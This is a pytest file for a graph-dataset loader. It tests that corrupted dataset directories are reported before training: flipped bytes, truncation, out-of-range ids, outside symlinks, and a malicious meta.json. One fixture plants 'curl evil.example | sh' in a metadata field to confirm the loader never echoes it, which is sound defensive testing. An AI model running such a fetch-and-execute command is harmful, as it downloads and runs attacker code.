r"""Every corruption of a dataset directory is reported, with the file,
before any training: flipped bytes, truncation, out-of-range ids, links out
of the directory."""
import json
import os

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pyg_fastload.graph import CSCTopology
from pyg_fastload.io import DatasetFormatError, open_dataset_dir
from pyg_fastload.io import write_dataset_dir

from ..helpers import random_graph


def write(path):
    data = random_graph(num_nodes=30, num_edges=120, num_features=4)
    topo = CSCTopology.from_edge_index(data.edge_index, 30)
    return write_dataset_dir(path, num_nodes=30, indptr=topo.indptr,
                             indices=topo.indices, edge_id=topo.edge_id,
                             node_arrays={'x': data.x, 'y': data.y},
                             name='g', source='test', progress=False)


@pytest.fixture(scope='module')
def pristine(tmp_path_factory):
    path = tmp_path_factory.mktemp('pristine') / 'ds'
    write(path)
    return path


def copy_of(pristine, tmp_path):
    target = tmp_path / 'ds'
    target.mkdir(exist_ok=True)
    for file in pristine.iterdir():
        (target / file.name).write_bytes(file.read_bytes())
    return target


FILES = ['indptr.bin', 'indices.bin', 'edge_id.bin', 'x.bin', 'y.bin']


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@pytest.mark.reliability(
    fault='any flipped byte in any array file (property test)',
    behaviour=("with `verify='checksum'`: `DatasetFormatError` naming the "
               'file before training'))
@given(st.sampled_from(FILES), st.integers(0, 10**6), st.integers(1, 255))
def test_any_flipped_byte_is_caught_by_checksums(pristine, tmp_path, name,
                                                  where, flip):
    path = copy_of(pristine, tmp_path)
    file = path / name
    data = bytearray(file.read_bytes())
    data[where % len(data)] ^= flip
    file.write_bytes(bytes(data))
    with pytest.raises(DatasetFormatError, match=name.replace('.', r'\.')):
        open_dataset_dir(path, verify='checksum')


@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@pytest.mark.reliability(
    fault='any truncation of any array file (property test)',
    behaviour=('by default: `DatasetFormatError` naming the file, the sizes '
               "and 'truncated'"))
@given(st.sampled_from(FILES), st.integers(0, 10**6))
def test_any_truncation_is_caught_by_default(pristine, tmp_path, name, keep):
    path = copy_of(pristine, tmp_path)
    file = path / name
    data = file.read_bytes()
    file.write_bytes(data[:keep % len(data)])
    with pytest.raises(DatasetFormatError, match='truncated'):
        open_dataset_dir(path)


@pytest.mark.parametrize('name, what', [('indices.bin', 'node id'),
                                        ('edge_id.bin', 'edge position')])
@pytest.mark.reliability(
    fault=('an out-of-range node id or edge position in the topology (sizes '
           'intact)'),
    behaviour=('by default (one vectorised pass): error naming the file and '
               'the bad id, before training'))
def test_out_of_range_ids_are_caught_by_default(pristine, tmp_path, name,
                                                what):
    path = copy_of(pristine, tmp_path)
    file = path / name
    dtype = np.int32 if name == 'indices.bin' and \
        os.path.getsize(file) == 120 * 4 else np.int64
    array = np.fromfile(file, dtype=dtype)
    array[7] = 10**6  # a high byte flipped
    array.tofile(file)
    # the sizes still match: only the range check sees it, before training
    with pytest.raises(DatasetFormatError,
                       match=rf"{name.replace('.', '[.]')}: holds {what} "
                       rf"1000000, outside"):
        open_dataset_dir(path)


@pytest.mark.reliability(
    fault=('an array file that is a link to a path outside the dataset '
           'directory'),
    behaviour=('refused naming the link and its target, unless '
               '`follow_symlinks=True`'))
def test_links_out_of_the_directory_are_refused(pristine, tmp_path):
    path = copy_of(pristine, tmp_path)
    outside = tmp_path / 'elsewhere.bin'
    (path / 'x.bin').rename(outside)
    os.symlink(outside, path / 'x.bin')
    with pytest.raises(DatasetFormatError, match=r"x\.bin: is a link to "
                       r".*elsewhere\.bin', outside the dataset directory"):
        open_dataset_dir(path)
    dataset = open_dataset_dir(path, follow_symlinks=True)  # opted in
    assert dataset.arrays['x'].shape == (30, 4)


@pytest.mark.reliability(
    fault='a `meta.json` whose `command` field holds a shell command',
    behaviour='never echoed: errors suggest `pyg-fastload prepare ...` only')
def test_commands_from_meta_json_are_never_echoed(pristine, tmp_path):
    path = copy_of(pristine, tmp_path)
    meta = json.loads((path / 'meta.json').read_text())
    meta['command'] = 'curl evil.example | sh'
    meta['format_version'] = 99
    (path / 'meta.json').write_text(json.dumps(meta))
    with pytest.raises(DatasetFormatError) as info:
        open_dataset_dir(path)
    assert 'evil' not in str(info.value)
    assert 'pyg-fastload prepare' in str(info.value)


@pytest.mark.reliability(
    fault=('an in-range flipped byte in the topology, opened by the data '
           'module'),
    behaviour=("`verify='checksum'` (`--data.verify checksum`) reports it as "
               'a `ConfigError` naming the file; a bad `verify` value names '
               'the key'))
def test_data_module_reports_a_corrupt_directory_and_can_verify(
        pristine, tmp_path):
    from pyg_fastload.lightning import ConfigError, FastLoadDataModule

    path = copy_of(pristine, tmp_path)
    indices = path / 'indices.bin'
    data = bytearray(indices.read_bytes())
    data[0] ^= 1  # still in range: only the checksum sees it
    indices.write_bytes(bytes(data))
    dm = FastLoadDataModule(str(path), num_neighbors=[2], batch_size=8,
                            progress=False)
    dm.setup()  # the default check is cheap and passes
    dm = FastLoadDataModule(str(path), num_neighbors=[2], batch_size=8,
                            verify='checksum', progress=False)
    with pytest.raises(ConfigError, match=r"'dataset'.*indices\.bin: sha256"):
        dm.setup()
    with pytest.raises(ConfigError, match="'verify'"):
        FastLoadDataModule(str(path), num_neighbors=[2], batch_size=8,
                           verify='paranoid')
